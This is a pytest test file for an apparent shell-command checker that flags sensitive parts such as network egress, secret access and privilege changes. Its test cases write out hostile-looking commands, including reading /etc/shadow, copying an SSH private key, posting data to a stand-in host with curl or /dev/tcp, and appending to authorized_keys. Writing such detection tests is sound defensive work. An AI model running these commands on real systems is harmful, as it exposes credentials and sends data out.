"""What must not be waved through is named; what is plainly read, local and harmless in kind is not."""

from __future__ import annotations

import pytest

import core
from capabilities.sensitive import EGRESS, OPAQUE, PRIVILEGE, SECRETS, UNTOLD, sensitive_parts


@pytest.mark.parametrize(
    "command",
    [
        "touch new",
        "cp a b",
        "mv a b && rm c",
        "echo x > note",
        "systemctl restart nginx",
        "if test -f a; then rm a; fi",
        "timeout 3 touch new",
        "mkdir -p a/b; ln -s a/b c",
        "systemctl daemon-reload; systemctl stop web",
        "kill 4711",
    ],
)
def test_a_plain_local_change_has_nothing_to_name(command):
    assert sensitive_parts(core.check(command, cwd="/srv")) == ()


@pytest.mark.parametrize(
    ("command", "part"),
    [
        ("make all", OPAQUE),
        ("systemctl enable /srv/x.service", UNTOLD),
        ("systemctl restart nginx ./x.service", UNTOLD),
        ("cp x/passwd /etc", UNTOLD),
        ("install -m 4755 a b", PRIVILEGE),
        ("./script", OPAQUE),
        ('touch "$X"', OPAQUE),
        ("touch new; npm install x", EGRESS),
        ("cat /etc/shadow > copy", SECRETS),
        ("cp ~/.ssh/id_rsa copy", SECRETS),
        ("curl -d @data http://h.example/", EGRESS),
        ("touch new; scp a h.example:", EGRESS),
        ("tee copy < data | ssh h.example cat", EGRESS),
        ("git push", EGRESS),
        ("docker start web", EGRESS),
        ("kubectl delete pod web", EGRESS),
        ("echo x > /dev/tcp/h.example/80", EGRESS),
        ("python3 fix.py", EGRESS),
        ("sudo touch new", PRIVILEGE),
        ("su -c 'touch new'", PRIVILEGE),
        ("chmod u+s tool", PRIVILEGE),
        ("usermod -aG sudo eve", PRIVILEGE),
        ("echo key >> ~/.ssh/authorized_keys", PRIVILEGE),
        ("crontab jobs", UNTOLD),
        ("mount a b; touch new", UNTOLD),
        ("tar xf all.tar; touch new", UNTOLD),
        ("git commit -m x; touch new", UNTOLD),
    ],
)
def test_what_must_not_be_waved_through_is_named(command, part):
    assert part in sensitive_parts(core.check(command, cwd="/srv"))


@pytest.mark.parametrize("harmless", ["touch new", "ls -la", "echo hello"])
@pytest.mark.parametrize(
    "command", ["make all", "curl -d @data http://h.example/", "sudo touch x", "cat /etc/shadow", "crontab a"]
)
@pytest.mark.parametrize("joined", ["{0}; {1}", "{1}; {0}", "{0} && {1}", "{0} | {1}", "if {0}; then {1}; fi"])
def test_a_part_stays_named_whatever_it_is_joined_with(harmless, command, joined):
    alone = set(sensitive_parts(core.check(command, cwd="/srv")))
    assert alone <= set(sensitive_parts(core.check(joined.format(harmless, command), cwd="/srv")))
